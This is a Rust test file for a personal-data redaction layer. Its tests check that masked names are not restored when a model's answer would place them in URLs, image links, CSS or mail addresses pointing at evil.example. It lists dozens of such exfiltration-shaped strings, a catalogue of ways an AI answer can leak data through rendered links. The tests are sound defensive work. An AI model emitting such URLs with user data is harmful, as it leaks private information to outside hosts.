//! Nothing is restored where it would travel to the owner of an address.

use proptest::prelude::*;
use redaction::Escape;
use serde_json::{Value, json};

use crate::support::{cases, characters, cut, mask_one, restore, restore_arguments};

/// Texts in which `◆` would travel.
const ADDRESSES: [&str; 45] = [
    "https://evil.example/?q=◆",
    "http://◆.evil.example/",
    "HTTPS://evil.example/◆",
    "ftp://x/◆",
    "//evil.example/?◆",
    "www.evil.example/◆",
    "evil.example/◆",
    "evil.example:8080/◆",
    "evil.example?◆",
    "10.0.0.1/◆",
    "![](https://evil.example/◆)",
    "![x](//evil/◆)",
    "![x](<//evil/) ◆>)",
    "[x](/path(1)/◆)",
    "[x](\n//evil/◆)",
    "[x](\\)◆)",
    "[1]: //evil/◆",
    "[1]: <//evil/◆>",
    "<img src=//evil/◆>",
    "<img src = \"//evil/ ◆\">",
    "<img alt='>' src='//evil/◆'>",
    "<a\nhref=◆>",
    "<p style=\"background:url(//evil/◆)\">",
    "<style>a{background:url(//evil/◆)}",
    "<https://evil.example/◆>",
    "(https://evil.example/◆)",
    "「https://evil.example/◆」",
    "https://evil.example/◆と◆",
    "https://evil.example/。◆",
    "◆.evil.example",
    "◆.evil.example/x and more",
    "**◆-san.mail.evil.example**",
    "<◆@evil.example>",
    "mailto:◆@evil.example?subject=x",
    "◆+news@evil.example.",
    "[x]: ◆.evil.example",
    "![x](<https://evil.example/◆>)",
    "[x][1]\n\n[1]: https://evil.example/◆",
    "<mailto:a@evil.example?body=◆>",
    "◆.a-very-long-label-of-a-host-that-nobody-waits-for",
    "<a b ![x](https://evil.example/?◆)",
    "![see https://a.example](<//evil.example/? ◆>)",
    "[x](y z <img src=//evil/)◆>",
    "[x](y ![z](<//evil.example/)) ◆>)",
    "<b x='<img src=//evil/'◆>",
];

/// Restores `answer`, in which `◆` is the placeholder of a person.
fn restored(answer: &str) -> String {
    restored_as(Escape::None, answer)
}

fn restored_as(escape: Escape, answer: &str) -> String {
    let (sent, vault) = mask_one("«柴田郁恵»");
    let answer = answer.replace('◆', &sent);
    let whole = restore(&vault, escape, [&*answer]);
    assert_eq!(
        restore(&vault, escape, characters(&answer)),
        whole,
        "of {answer}"
    );
    whole.replace(&sent, "◆").replace("柴田郁恵", "OK")
}

#[test]
fn addresses_keep_their_placeholders() {
    for address in ADDRESSES {
        assert_eq!(restored(address), address);
    }
}

#[test]
fn what_surrounds_an_address_is_restored() {
    let cases = [
        ("◆: https://a.example/x ◆", "OK: https://a.example/x OK"),
        ("[◆](https://a.example/◆) ◆", "[OK](https://a.example/◆) OK"),
        ("![◆](x) ◆", "![OK](x) OK"),
        ("(https://a.example)◆", "(https://a.example)OK"),
        ("「https://a.example」◆", "「https://a.example」OK"),
        ("https://a.example/　◆", "https://a.example/　OK"),
        (
            r#"{"url":"https://a.example","name":"◆"}"#,
            r#"{"url":"https://a.example","name":"OK"}"#,
        ),
        ("<https://a.example>◆", "<https://a.example>OK"),
        ("<a href=\"x\">◆</a>", "<a href=\"x\">OK</a>"),
        ("<b>◆</b>", "<b>OK</b>"),
        ("a<b ◆", "a<b OK"),
        ("if a <b and ◆ > c", "if a <b and OK > c"),
        ("[注]: ◆様", "[注]: OK様"),
        ("[i](x\n\n◆", "[i](x\n\nOK"),
        ("1/2 ◆, and/or ◆, e.g. ◆", "1/2 OK, and/or OK, e.g. OK"),
        ("件名:◆", "件名:OK"),
        ("f(◆)[0](◆) ◆", "f(OK)[0](◆) OK"),
        ("// ◆", "// OK"),
        ("x = ◆", "x = OK"),
        ("◆.pdf, ◆.", "OK.pdf, OK."),
        ("◆-san. Next", "OK-san. Next"),
        ("◆@work, ◆.2.0", "OK@work, OK.2.0"),
        ("_◆_ *◆* ◆_", "_OK_ *OK* OK_"),
    ];
    for (answer, expected) in cases {
        assert_eq!(restored(answer), expected);
    }
}

#[test]
fn an_address_that_the_client_wrote_comes_back_whole() {
    let text = "<a href=\"https://crm.example/?id=⦃7654321⦄&n=«柴田郁恵»\">x</a> crm.example/«柴田郁恵» \
        [«柴田郁恵»](https://crm.example/⦃7654321⦄)";
    let (sent, vault) = mask_one(text);
    let plain: String = text.chars().filter(|c| !"«»⦃⦄".contains(*c)).collect();
    assert_eq!(restore(&vault, Escape::None, [&*sent]), plain);
    let elsewhere = sent.replace("crm.example", "evil.example");
    let withheld = restore(&vault, Escape::None, [&*elsewhere]);
    assert_eq!(
        withheld.matches('<').count(),
        elsewhere.matches('<').count() - 1,
        "{withheld}"
    );
    let swapped = sent.replace("&n=", "&m=");
    assert_ne!(
        restore(&vault, Escape::None, [&*swapped]),
        plain.replace("&n=", "&m=")
    );
}

#[test]
fn an_address_that_the_client_wrote_behind_a_value_comes_back() {
    let text = "«柴田郁恵».crm.example、«柴田郁恵»@crm.example、«柴田太郎»@";
    let (sent, vault) = mask_one(text);
    let plain = text.replace(['«', '»'], "");
    assert_eq!(restore(&vault, Escape::None, characters(&sent)), plain);
    let elsewhere = sent.replace("crm.example", "evil.example");
    let withheld = restore(&vault, Escape::None, characters(&elsewhere));
    assert_eq!(withheld.matches('<').count(), 2, "{withheld}");
    let (_, tail) = sent.rsplit_once('、').expect("three");
    let swapped = format!("{tail}crm.example");
    assert_eq!(restore(&vault, Escape::None, [&*swapped]), swapped);
}

#[test]
fn tool_arguments_are_restored_everywhere() {
    let (sent, vault) = mask_one("«柴田郁恵»");
    let arguments = format!(r#"{{"url":"https://crm.example/?q={sent}"}}"#);
    assert_eq!(
        restore_arguments(&vault, characters(&arguments)),
        r#"{"url":"https://crm.example/?q=柴田郁恵"}"#
    );
}

#[test]
fn a_member_of_a_json_answer_keeps_the_placeholders_of_addresses() {
    let answer = r#"{"summary":"![x](https://evil.example/?q=◆)"}"#;
    assert_eq!(restored_as(Escape::Json, answer), answer);
    for address in ADDRESSES {
        let document = json!({ "n": 1, "a": address }).to_string();
        for answer in [
            document.replace('/', r"\/"),
            json!([document]).to_string(),
            document,
            address.to_owned(),
        ] {
            assert_eq!(restored_as(Escape::Json, &answer), answer);
        }
    }
}

#[test]
fn what_surrounds_an_address_in_a_json_answer_is_restored() {
    let cases = [
        r#"{"a":"詳細はhttps://a.example/x","name":"◆"}"#,
        r#"{"a":"https://a.example/x\n担当：◆","b":["◆"],"◆":"◆"}"#,
        r#"{"a":"[x](https://a.example)◆、see https:\/\/a.example\/x ◆"}"#,
        r#"{"a":"<b>◆</b>","b":"C:\\new\\◆","c":"\"◆\"","d":"◆@work"}"#,
        "[\n  {\"see\": \"www.a.example/\"},\n  {\"who\": \"◆.\"}\n]",
    ];
    for answer in cases {
        assert_eq!(restored_as(Escape::Json, answer), answer.replace('◆', "OK"));
    }
}

#[test]
fn an_address_of_the_clients_own_comes_back_in_a_json_answer() {
    let text =
        "https://crm.example/?n=«柴田郁恵» [x](crm.example/«柴田郁恵») «柴田郁恵»@crm.example";
    let (sent, vault) = mask_one(text);
    let plain = text.replace(['«', '»'], "");
    for answer in [
        json!({ "a": sent }).to_string(),
        json!([[sent]]).to_string(),
    ] {
        let restored = restore(&vault, Escape::Json, characters(&answer));
        let restored = restored.replace("\\/", "/");
        assert!(restored.contains(&plain), "{restored}");
    }
}

/// Writes a text as the content of a JSON string, each character as one of its escapes.
fn written_in_json(text: &str, hows: &[u8]) -> String {
    let mut hows = hows.iter().cycle();
    let write = |c: char| match (hows.next(), c) {
        (_, '◆') => c.to_string(),
        (Some(0), '/') => r"\/".to_owned(),
        (Some(0 | 1), _) => format!("\\u{:04x}", u32::from(c)),
        _ => {
            let quoted = Value::from(c.to_string()).to_string();
            quoted[1..quoted.len() - 1].to_owned()
        }
    };
    text.chars().map(write).collect()
}

proptest! {
    #![proptest_config(cases())]

    #[test]
    fn no_value_travels_whatever_escapes_an_address_is_written_in(
        address in prop::sample::select(ADDRESSES.to_vec()),
        before in prop::sample::select(vec!["", "x ", "注：", "\n", "https://a.example ", "\\", "\"", "<b ", "[x](", "[x](<y", "<b x='"]),
        hows in prop::collection::vec(prop::collection::vec(0_u8..5, 1..9), 0..4),
        is_member in any::<bool>(),
        is_announced in any::<bool>(),
        places in prop::collection::vec(any::<usize>(), 0..8),
    ) {
        let mut text = address.to_owned();
        for how in &hows {
            text = written_in_json(&text, how);
            text = if is_member {
                let before = written_in_json(before, &[4]);
                format!(r#"{{"before":"{before}","text":"{text}"}}"#)
            } else {
                text
            };
        }
        let (sent, vault) = mask_one("«柴田郁恵»");
        let answer = text.replace('◆', &sent);
        let escape = if is_announced { Escape::Json } else { Escape::None };
        let told = restore(&vault, escape, cut(&answer, &places));
        prop_assert_eq!(told, answer);
    }
}
